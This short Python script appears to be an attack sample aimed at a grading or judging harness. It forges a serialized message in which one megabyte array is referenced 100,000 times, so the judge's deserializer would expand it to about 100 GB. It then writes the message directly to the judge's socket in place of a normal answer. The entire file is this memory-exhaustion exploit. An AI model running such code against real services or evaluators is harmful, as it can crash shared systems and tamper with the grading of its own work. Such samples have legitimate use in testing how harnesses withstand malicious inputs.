# A hundred thousand times the same array of a megabyte.
# held by: frames
import json

header = (
    b'{"tree": {"dict": [["returned", ['
    + b",".join([b'{"array": 0}'] * 100_000)
    + b']]]}, "arrays": [["uint8", [1048576]]]}'
)
bytes_after = bytes(2**20)
line = judges_socket()


def forge(*_, **__):
    line.sendall(len(header).to_bytes(4, "little") + header + bytes_after)


answer_with(forge)
